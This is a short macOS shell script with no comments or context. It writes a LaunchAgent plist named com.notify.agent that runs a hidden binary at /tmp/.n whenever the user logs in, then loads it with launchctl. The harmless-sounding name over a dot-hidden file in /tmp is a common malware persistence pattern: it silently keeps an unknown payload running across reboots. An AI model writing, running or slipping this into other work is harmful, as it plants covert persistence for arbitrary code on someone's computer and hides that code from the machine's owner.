#!/bin/sh
cat > ~/Library/LaunchAgents/com.notify.agent.plist <<EOF
<plist><dict><key>ProgramArguments</key><array><string>/tmp/.n</string></array><key>RunAtLoad</key><true/></dict></plist>
EOF
launchctl load ~/Library/LaunchAgents/com.notify.agent.plist
